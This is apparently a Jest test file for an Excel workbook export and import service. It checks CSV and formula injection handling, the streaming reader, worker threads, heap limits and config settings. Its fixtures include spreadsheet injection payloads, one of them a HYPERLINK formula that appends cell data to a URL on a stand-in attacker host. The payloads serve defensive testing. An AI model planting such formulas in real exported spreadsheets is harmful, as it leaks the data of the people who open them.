import ExcelJS from 'exceljs';
import * as XLSX from 'xlsx';
import { readExecutionTableWorkbook } from '../../../server/services/execution-tables/excel/import-workbook.js';
import { WorkbookReaders } from '../../../server/services/execution-tables/excel/read-in-worker.js';
import { readXlsx } from '../../../server/services/execution-tables/excel/xlsx-reader.js';
import { DEFAULT_WORKBOOK_LIMITS, loadConfig } from '../../../server/shared/config.js';
import { cell, withRows } from './hostile-xlsx.js';
import { exportToBuffer, FORMATTERS, isKnownOwner, ROWS } from './workbook-fixtures.js';

const FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('exported text that looks like a formula (OWASP CSV injection)', () => {
  test('is written as a text cell formatted as Text, never a formula, and reads back unchanged', async () => {
    const rows = ROWS.map((row, index) => ({ ...row, actions: FORMULAS[index % FORMULAS.length]!, notes: FORMULAS[(index + 1) % FORMULAS.length]! }));
    const rowsWithTarget = rows.map((row) => (row.kpi ? { ...row, kpi: { ...row.kpi, description: '=HYPERLINK("http://attacker.example","x")' } } : row));
    const workbook = await exportToBuffer('en', rowsWithTarget);

    const read = XLSX.read(workbook, { type: 'buffer', cellFormula: true, cellNF: true });
    const sheet = read.Sheets['Execution table']!;
    const cells = Object.entries(sheet).filter(([address]) => /^[DL]\d+$/.test(address) && Number(address.slice(1)) > 2);
    expect(cells.length).toBe(rows.length * 2);
    for (const [, cell] of cells as Array<[string, XLSX.CellObject]>) {
      expect(FORMULAS).toContain(cell.v);
      expect(cell).toMatchObject({ t: 's', z: '@' });
      expect(cell.f).toBeUndefined();
    }
    const kpi = read.Sheets['KPI targets']!;
    const descriptions = Object.entries(kpi).filter(([address]) => /^I\d+$/.test(address) && address !== 'I1') as Array<[string, XLSX.CellObject]>;
    expect(descriptions.length).toBeGreaterThan(0);
    for (const [, cell] of descriptions) expect(cell).toMatchObject({ t: 's', z: '@', v: '=HYPERLINK("http://attacker.example","x")' });
    expect(Object.values(read.Sheets).flatMap((s) => Object.values(s).filter((c: XLSX.CellObject) => c?.f !== undefined))).toEqual([]);

    const back = await readExecutionTableWorkbook(workbook, { formatters: FORMATTERS, isKnownOwner });
    expect(back.map((row) => [row.content.actions, row.content.notes])).toEqual(rows.map((row) => [row.actions, row.notes]));
  });
});

describe('the streaming reader', () => {
  test('reads what another program wrote: shared strings, dates by number format, booleans, formula results', async () => {
    const sheet = XLSX.utils.aoa_to_sheet([
      ['Name', 'When', 'Done', 'Sum'],
      ['测试 text', new Date(Date.UTC(2026, 2, 2)), true, { t: 'n', v: 3, f: '1+2' }],
    ]);
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([['ignored']]), 'Other');
    XLSX.utils.book_append_sheet(book, sheet, 'Execution table');
    const data = XLSX.write(book, { type: 'buffer', bookType: 'xlsx', cellDates: false }) as Buffer;

    const sheets = await readXlsx(data, { table: ['execution table'], kpi: [] }, DEFAULT_WORKBOOK_LIMITS);
    expect(sheets.map((s) => s.name)).toEqual(['Execution table']);
    expect(sheets[0]!.rows[0]).toEqual({ number: 1, cells: ['Name', 'When', 'Done', 'Sum'] });
    const [name, when, done, sum] = sheets[0]!.rows[1]!.cells;
    expect([name, done, sum]).toEqual(['测试 text', true, 3]);
    expect(when).toBeInstanceOf(Date);
    expect((when as Date).toISOString().slice(0, 10)).toBe('2026-03-02');
  });

  test('a formula saved without its result is read as such, not as a blank cell; one with its result as the result', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Execution table');
    sheet.getCell('A1').value = { formula: 'DATE(2026,11,3)' } as ExcelJS.CellFormulaValue;
    sheet.getCell('B1').value = { formula: 'A1+1', result: 5, shareType: 'shared', ref: 'B1:C1' } as ExcelJS.CellFormulaValue;
    sheet.getCell('C1').value = { sharedFormula: 'B1' } as ExcelJS.CellSharedFormulaValue;
    const data = Buffer.from(await book.xlsx.writeBuffer());

    const [read] = await readXlsx(data, { table: ['execution table'], kpi: [] }, DEFAULT_WORKBOOK_LIMITS);
    expect(read!.rows).toEqual([{ number: 1, cells: [{ formula: 'DATE(2026,11,3)' }, 5, { formula: '' }] }]);
  });

  test('the worker threads are kept between uploads; with one thread, uploads take their turn', async () => {
    const readers = new WorkbookReaders({ ...DEFAULT_WORKBOOK_LIMITS, workers: 1 });
    try {
      const data = await exportToBuffer('en');
      const choice = { table: ['execution table'], kpi: ['kpi targets'] };
      const all = await Promise.all([1, 2, 3].map(() => readers.read(data, choice)));
      expect(all.map((sheets) => sheets.map((sheet) => sheet.name))).toEqual([1, 2, 3].map(() => ['Execution table', 'KPI targets']));
      expect(all[2]).toEqual(all[0]);
    } finally {
      await readers.close();
    }
  });

  test('a file that needs more memory than the thread may have is refused naming the heap limit; the next upload is read', async () => {
    const readers = new WorkbookReaders({ ...DEFAULT_WORKBOOK_LIMITS, heapMb: 16, rows: 1_000_000 });
    try {
      const book = XLSX.utils.book_new();
      XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([['ID', 'Phase']]), 'Execution table');
      const small = XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
      const rows = Array.from({ length: 300_000 }, (_, n) => `<row r="${n + 2}">${cell(`A${n + 2}`, `phase number ${n}`)}</row>`).join('');
      const choice = { table: ['execution table'], kpi: [] };
      await expect(readers.read(withRows(small, rows), choice)).rejects.toMatchObject({
        code: 'payload_too_large',
        details: { limit: 'WORKBOOK_PARSE_HEAP_MB', maximum: 16 },
      });
      expect((await readers.read(small, choice))[0]!.rows).toHaveLength(1);
    } finally {
      await readers.close();
    }
  });

  test('each limit is a setting read from the environment, refused when it is not a whole number', () => {
    expect(loadConfig({}).workbookLimits).toEqual(DEFAULT_WORKBOOK_LIMITS);
    expect(loadConfig({ WORKBOOK_MAX_ROWS: '500', WORKBOOK_MAX_INFLATED_BYTES: '1048576' }).workbookLimits).toMatchObject({
      rows: 500,
      inflatedBytes: 1_048_576,
    });
    expect(() => loadConfig({ WORKBOOK_MAX_CELL_CHARS: 'lots' })).toThrow(/WORKBOOK_MAX_CELL_CHARS/);
    expect(() => loadConfig({ WORKBOOK_PARSE_TIMEOUT_MS: '0' })).toThrow(/WORKBOOK_PARSE_TIMEOUT_MS/);
  });
});
